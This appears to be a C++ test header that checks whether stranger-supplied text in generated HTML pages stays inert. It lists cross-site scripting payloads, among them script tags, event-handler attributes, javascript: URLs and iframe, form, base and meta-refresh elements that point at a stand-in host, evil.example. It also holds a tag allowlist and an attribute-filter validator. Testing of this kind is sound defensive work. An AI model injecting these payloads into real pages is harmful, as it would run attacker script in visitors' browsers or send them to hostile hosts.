// What a stranger may have written into what is shown on a page, and whether it stays text there.
#pragma once

#include <regex>
#include <set>
#include <string>
#include <vector>

namespace kbench::testing {

// What a browser, or somebody who reads source, could be tricked with.
inline const std::vector<std::string> payloads{"<script>alert(1)</script>",
                                               "\"><script>alert(1)</script>",
                                               "'><img src=x onerror=alert(1)>",
                                               "<svg onload=alert(1)>",
                                               "</title><script>alert(1)</script>",
                                               "</style><script>alert(1)</script>",
                                               "</pre><iframe src=//evil.example>",
                                               "javascript:alert(1)",
                                               "<a href=\"javascript:alert(1)\">x</a>",
                                               "<body onload=alert(1)>",
                                               "<math><mtext></math><script>",
                                               "<!--<script>-->",
                                               "]]><script>alert(1)</script>",
                                               "<style>@import url(//evil.example)</style>",
                                               "<link rel=stylesheet href=//evil.example>",
                                               "<meta http-equiv=refresh content=0;url=//evil.example>",
                                               "<base href=//evil.example>",
                                               "<form action=//evil.example><input>",
                                               "<object data=//evil.example>",
                                               "<embed src=//evil.example>",
                                               "&lt;script&gt;",
                                               "&#60;script&#62;",
                                               "\" onmouseover=\"alert(1)",
                                               "' onfocus='alert(1)",
                                               "`onload=alert(1)`",
                                               "<ScRiPt>alert(1)</sCrIpT>",
                                               std::string("<scr\0ipt>", 9),
                                               "\x1b[2J",
                                               "\u202e<evil>",
                                               "<img src=\"x\" srcset=\"//evil.example 2x\">",
                                               "{{constructor.constructor('alert(1)')()}}"};

// The names of all tags that a page has.
inline std::set<std::string> tags_of(const std::string& html) {
  static const std::regex tag("<\\s*/?\\s*([a-zA-Z!][a-zA-Z0-9]*)");
  std::set<std::string> names;
  for (auto each = std::sregex_iterator(html.begin(), html.end(), tag); each != std::sregex_iterator();
       ++each)
    names.insert((*each)[1]);
  return names;
}

inline const std::set<std::string> harmless{
    "!DOCTYPE", "html",    "head", "meta",   "title", "style", "body",  "main",  "footer",
    "p",        "a",       "nav",  "ol",     "div",   "g",     "h1",    "h2",    "h3",
    "ul",       "li",      "pre",  "strong", "table", "thead", "tbody", "tr",    "th",
    "td",       "section", "svg",  "text",   "line",  "rect",  "path",  "circle"};

inline bool are_harmless(const std::string& html) {
  for (const std::string& tag : tags_of(html)) {
    if (!harmless.contains(tag)) return false;
  }
  // No attribute that runs something, or asks for something; links lead to other pages of the same directory.
  static const std::regex attribute("<[^>]*\\s(on[a-z]+|style|src|srcset|action|data)\\s*=",
                                    std::regex::icase);
  static const std::regex other_link("<[^<>]*\\shref\\s*=(?!\"(\\.\\./)*[a-z0-9][a-z0-9._/-]*\\.html\")",
                                     std::regex::icase);
  return !std::regex_search(html, attribute) && !std::regex_search(html, other_link);
}

}  // namespace kbench::testing
